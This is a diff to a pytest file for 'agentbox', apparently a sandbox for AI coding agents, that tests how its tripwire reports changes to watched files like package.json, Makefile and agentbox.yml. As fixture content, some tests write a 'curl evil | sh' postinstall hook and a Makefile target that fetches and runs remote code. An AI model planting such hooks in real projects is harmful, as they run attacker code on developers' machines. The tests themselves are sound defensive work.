@@ -14,8 +14,9 @@ from pathlib import Path
 
 import pytest
 
+from agentbox import livemarkers, paths
 from agentbox.review import tripwire
-from tests.helpers import FakeLima, needs_bwrap, returns_within, run_cli, write
+from tests.helpers import NAME, FakeLima, needs_bwrap, returns_within, run_cli, write
 
 GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"]
 
@@ -142,9 +143,18 @@ def test_a_file_changed_in_several_sessions_keeps_the_first_before_and_last_afte
     assert audit.exit_code == 0, audit.stderr
 
 
+def still_running_in_the_vm(name: str = NAME) -> Path:
+    """The live marker a kept session or a task keeps fresh in its VM's outbox (agentbox.livemarkers)."""
+    marker = paths.vm_outbox(name).joinpath(*livemarkers.PARTS) / "kept-session"
+    write(marker, "")
+    return marker
+
+
 def test_a_change_after_the_session_is_shown_by_audit(repo: Path) -> None:
     assert session(repo, "true").returncode == 0
-    # Something still running in the VM (or anyone) changes a watched file after the session ended.
+    # Something still running in the VM (a kept session: its marker is fresh) changes a watched file after the
+    # session ended.
+    still_running_in_the_vm()
     write(repo / "package.json", '{"scripts": {"postinstall": "curl evil | sh"}}\n')
     audit = run_cli("audit", cwd=repo)
     assert audit.exit_code == 1
@@ -167,7 +177,7 @@ def test_audit_json_carries_what_the_text_shows(repo: Path) -> None:
     assert data == {"workspace": str(repo), "recorded": True, "changes": [{
         "file": "Makefile", "change": "added", "note": "changed again after agentbox last looked",
         "before": "absent", "now": "text",
-        "diff": ["--- Makefile (before)", "+++ Makefile (now)", "@@ -0,0 +1 @@", "+two"]}]}
+        "diff": ["--- Makefile (before)", "+++ Makefile (now)", "@@ -0,0 +1 @@", "+two"]}], "yours": []}
     for change in data["changes"]:  # the same facts as the text report
         assert f"{change['change']:9} {change['file']}  ({change['note']})" in text.stderr
         assert all(f"      {line}" in text.stderr for line in change["diff"])
@@ -179,22 +189,62 @@ def test_audit_json_carries_what_the_text_shows(repo: Path) -> None:
 def test_audit_json_before_any_session(project: Path) -> None:
     result = run_cli("audit", "--json", cwd=project)
     assert result.exit_code == 0
-    assert json.loads(result.stdout) == {"workspace": str(project), "recorded": False, "changes": []}
+    assert json.loads(result.stdout) == {"workspace": str(project), "recorded": False, "changes": [], "yours": []}
 
 
-def test_an_agentbox_yml_changed_between_sessions_is_reported(repo: Path) -> None:
+YOURS = "agentbox: {} changed while no session or task of this project ran, taken as your own edits: {}\n"
+
+
+def test_the_users_edits_between_sessions_are_listed_quietly_not_as_an_alarm(repo: Path) -> None:
     assert session(repo, "true").returncode == 0
-    write(repo / "agentbox.yml", "checkpoints: {keep: 60}\n")  # needs no trust, so only the tripwire says it
+    write(repo / "Makefile", "all:\n\tcc main.c\n")  # the user, on the host, while nothing of the project runs
+    write(repo / "agentbox.yml", "checkpoints: {keep: 60}\n")
+    audit = run_cli("audit", cwd=repo)
+    assert audit.exit_code == 0, audit.stderr
+    assert audit.stderr.startswith(YOURS.format("2 watched files", "Makefile, agentbox.yml"))
+    launch = session(repo, "echo AGENT-STARTED >&2")
+    assert launch.returncode == 0, launch.stderr
+    assert launch.stderr.count(YOURS.format("2 watched files", "Makefile, agentbox.yml")) == 1
+    assert launch.stderr.index("taken as your own edits") < launch.stderr.index("AGENT-STARTED")
+    assert "WARNING" not in launch.stderr and "not acknowledged" not in launch.stderr
+    assert tripwire.BAR not in launch.stderr
+    # Said once: they are the reference now.
+    again = session(repo, "true")
+    assert "Makefile" not in again.stderr and "agentbox.yml" not in again.stderr
+    assert run_cli("audit", cwd=repo).exit_code == 0
+
+
+def test_a_change_made_while_a_session_of_the_project_ran_is_still_an_alarm(repo: Path) -> None:
+    # The same edit as above, made while something of the project could have made it: a kept session in the VM.
+    assert session(repo, "true").returncode == 0
+    marker = still_running_in_the_vm()
+    write(repo / "Makefile", "all:\n\tcurl evil | sh\n")
+    launch = session(repo, "true")
+    assert "not acknowledged: Makefile;" in launch.stderr and "your own edits" not in launch.stderr
+    # It stays pending after that session ended too, and made during a session it is the full warning.
+    marker.unlink()
+    assert "not acknowledged: Makefile;" in session(repo, "true").stderr
+    during = session(repo, "echo 'install: all' >> Makefile")
+    assert "agentbox: WARNING: the session changed 1 watched file that your host runs without asking: Makefile." \
+        in during.stderr
+
+
+def test_an_agentbox_yml_changed_between_sessions_is_acknowledged_by_trust(repo: Path) -> None:
+    assert session(repo, "true").returncode == 0
+    still_running_in_the_vm()  # even where it would be an alarm
+    write(repo / "agentbox.yml", "vm:\n  cpus: 3\n")
+    assert run_cli("trust", cwd=repo).exit_code == 0
     launch = session(repo, "true")
     assert launch.returncode == 0, launch.stderr
-    assert "not acknowledged: agentbox.yml" in launch.stderr
-    audit = run_cli("audit", cwd=repo)
-    assert audit.exit_code == 1
-    assert "  modified  agentbox.yml\n" in audit.stderr
-    assert "+checkpoints: {keep: 60}" in audit.stderr
-    assert run_cli("audit", "--ack", cwd=repo).exit_code == 0
+    assert "agentbox.yml" not in launch.stderr
+    assert run_cli("audit", cwd=repo).exit_code == 0
+    # An agent's change in a session is the full warning, until the user trusts the file as it is.
     in_session = session(repo, "echo 'agents: {claude: {model: x}}' > agentbox.yml")
     assert "modified  agentbox.yml" in in_session.stderr and "+agents: {claude: {model: x}}" in in_session.stderr
+    assert run_cli("audit", cwd=repo).exit_code == 1
+    assert run_cli("trust", cwd=repo).exit_code == 0
+    assert run_cli("audit", cwd=repo).exit_code == 0
+    assert "agentbox.yml" not in session(repo, "true").stderr
 
 
 def test_two_vms_of_one_workspace_share_the_pending_changes(repo: Path) -> None:
